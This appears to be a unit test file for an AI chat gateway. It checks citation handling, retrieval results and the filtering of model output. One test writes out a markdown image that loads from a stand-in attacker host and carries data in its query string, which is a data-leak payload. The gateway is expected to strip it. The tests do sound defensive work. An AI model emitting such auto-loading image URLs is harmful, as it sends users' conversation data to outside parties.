from __future__ import annotations

from tests.unit.graph.dialogue import SEARCH, Dialogue, Say
from tests.unit.graph.parts import a_passage

from agent_gateway.messages import Exchange
from agent_gateway.testing import StaticKnowledge, passage


async def test_a_question_that_was_answered_by_retrieve_is_one_streamed_call() -> None:
    page = a_passage("The keys hang in the hall.")
    dialogue = Dialogue([Say("They hang in the hall [1].")], tools=[SEARCH], passages=(page,), answerable=True, depth=0)
    await dialogue.run()
    assert (dialogue.text, dialogue.cited, dialogue.notices) == ("They hang in the hall [1].", [1], [])
    assert len(dialogue.completions.tasks) == 1
    assert dialogue.routes == []


async def test_leading_space_is_no_part_of_an_answer() -> None:
    assert (await Dialogue([Say("\n\n  Yes.")]).run()).text == "Yes."


async def test_an_image_that_would_load_from_elsewhere_is_not_shown() -> None:
    dialogue = await Dialogue([Say("So ![it](https://evil.example/?q=keys) is.")]).run()
    assert dialogue.text == "So it is."
    assert "image from elsewhere" in dialogue.notices[0]


async def test_links_of_passages_and_of_the_message_are_kept() -> None:
    page = a_passage("See https://docs.example/keys for more.")
    said = "See [a](https://docs.example/keys), [b](https://mine.example) and [c](https://evil.example)."
    dialogue = Dialogue(
        [Say(said)], passages=(page,), answerable=True, message="What of https://mine.example ?", depth=0
    )
    await dialogue.run()
    assert dialogue.text == "See [a](https://docs.example/keys), [b](https://mine.example) and c."


async def test_what_a_tool_finds_twice_keeps_its_number() -> None:
    knowledge = StaticKnowledge({"docs": [passage("The keys hang in the hall.", source="keys.md")]})
    script = [
        Say(calls=[("knowledge_search", '{"query": "keys"}'), ("knowledge_search", '{"query": "hall keys"}')]),
        Say("In the hall [1]."),
    ]
    dialogue = await Dialogue(script, tools=[SEARCH], knowledge=knowledge).run()
    assert [each.text[:3] for each in dialogue.results] == ["[1]", "[1]"]
    assert dialogue.cited == [1]


async def test_a_search_that_finds_nothing_says_so_and_makes_nothing_citable() -> None:
    script = [Say(calls=[("knowledge_search", '{"query": "unicorns"}')]), Say("The documents do not say [1].")]
    dialogue = await Dialogue(script, tools=[SEARCH], knowledge=StaticKnowledge({"docs": []})).run()
    assert dialogue.results[0].text == "No document answers this."
    assert (dialogue.text, dialogue.cited) == ("The documents do not say.", [])


async def test_the_conversation_is_told_to_the_model() -> None:
    dialogue = await Dialogue([Say("Yes.")], history=(Exchange(message="Hi there", response="Hello."),)).run()
    assert "Hi there" in dialogue.seen(0)
